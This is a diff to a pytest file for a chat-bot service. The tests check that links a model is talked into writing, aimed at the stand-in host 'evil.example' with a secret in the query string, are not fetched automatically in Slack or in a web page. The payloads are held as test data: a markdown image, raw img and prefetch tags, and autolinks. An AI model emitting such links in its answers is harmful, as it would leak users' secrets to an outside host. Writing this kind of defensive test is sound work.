@@ -1,5 +1,6 @@
 """Read out: what a model was talked into writing must not carry anything out before somebody presses it."""
 
+import re
 from collections.abc import Iterator
 
 import pytest
@@ -13,6 +14,8 @@ from botservice.settings import Settings
 from transports.registry import build_slack, build_telegram
 from transports.slack.addresses import before_address, find_address
 from transports.slack.app import Manners
+from transports.web.outbound import render_markdown
+from transports.web.pages import HEADERS
 
 LEAK = "https://evil.example/?d=swordfish"
 ANSWERS = [f"See {LEAK} for more", f"[see more]({LEAK})", f"<{LEAK}>", f"![picture]({LEAK})"]
@@ -111,6 +114,15 @@ async def test_slack_shows_previews_where_the_owner_wants_them(slack: SlackApi, 
         slack.person_says("hello")
         await slack.until(slack.said)
     assert slack.world.fetched == [LEAK]
+
+
+@pytest.mark.parametrize("answer", [*ANSWERS, f'<img src="{LEAK}">', f"<link rel=prefetch href={LEAK}>"])
+def test_a_browser_loads_nothing_that_a_model_writes(answer: str) -> None:
+    assert not re.search(r"<(img|link|script|iframe|object|video|audio|style|svg|meta)\b", render_markdown(answer))
+    policy = HEADERS["Content-Security-Policy"]
+    assert "default-src 'none'" in policy
+    assert "img-src 'self' blob:;" in policy
+    assert "http" not in policy
 
 
 @pytest.mark.parametrize(
